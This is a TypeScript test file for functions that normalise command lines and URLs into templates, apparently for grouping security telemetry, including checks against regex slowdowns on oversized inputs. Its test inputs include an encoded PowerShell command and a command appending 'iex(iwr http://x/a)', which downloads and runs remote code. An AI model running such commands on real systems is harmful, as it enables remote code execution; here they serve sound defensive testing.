import { describe, expect, it } from 'vitest';
import { foldText, urlTemplate } from './fold.ts';

describe('foldText', () => {
  it('folds numbers, GUIDs, long hex, temp and profile directories and the user name', () => {
    expect(
      foldText(
        'C:\\Users\\alice\\AppData\\Local\\Temp\\tmp8F3A\\setup.exe /install {6F9619FF-8B86-D011-B42D-00C04FC964FF} /log 20240101 0xdeadbeef01',
        ['CORP\\alice'],
      ),
    ).toBe('c:\\users\\<user>\\appdata\\local\\temp\\<tmp>\\setup.exe /install <guid> /log <n> <hex>');
    expect(foldText('/usr/bin/python3 /tmp/abc123/run.py --user bob --port 8080', ['bob'])).toBe(
      '/usr/bin/python<n> /tmp/<tmp>/run.py --user <user> --port <n>',
    );
    expect(foldText('/home/carol/.local/bin/tool -v')).toBe('/home/<user>/.local/bin/tool -v');
  });

  it('keeps words, switches and executables: different activities never fold alike', () => {
    const benign = foldText('powershell.exe -File C:\\Scripts\\backup.ps1 -Days 7');
    expect(foldText('powershell.exe -enc SQBFAFgA -Days 7')).not.toBe(benign);
    expect(foldText('powershell.exe -File C:\\Scripts\\backup.ps1 -Days 7 ; iex(iwr http://x/a)')).not.toBe(
      benign,
    );
    expect(foldText('cmd /c whoami')).not.toBe(foldText('cmd /c hostname'));
  });

  it('is linear on hostile input (long hex runs, long paths, no separators)', () => {
    const inputs = [
      `${'a1'.repeat(32_000)}g`,
      `\\temp\\${'x'.repeat(60_000)}`,
      `${'/tmp/'.repeat(12_000)}`,
      `${'{6F9619FF-8B86-D011-B42D-'.repeat(2_500)}`,
      `${'9'.repeat(65_000)}z`,
    ];
    const t0 = performance.now();
    foldText('short command 1');
    const plain = performance.now() - t0;
    for (const s of inputs) {
      const t = performance.now();
      foldText(s, ['alice']);
      urlTemplate(`http://h/${s}?${s}=1`);
      // Generous: a quadratic pattern takes seconds on 64 KB; linear work takes milliseconds.
      expect(performance.now() - t).toBeLessThan(Math.max(250, plain * 1000));
    }
  });
});

describe('urlTemplate', () => {
  it('keeps host and words, folds ids and drops query values', () => {
    expect(urlTemplate('https://Shop.Example.com/item/12345/view?b=2&a=1#x')).toBe(
      'https://shop.example.com/item/<id>/view?a&b',
    );
    expect(urlTemplate('/api/v2/users/6f9619ff-8b86-d011-b42d-00c04fc964ff/orders')).toBe(
      '/api/v<n>/users/<id>/orders',
    );
    expect(urlTemplate('/wp-login.php')).not.toBe(urlTemplate('/favicon.ico'));
  });
});
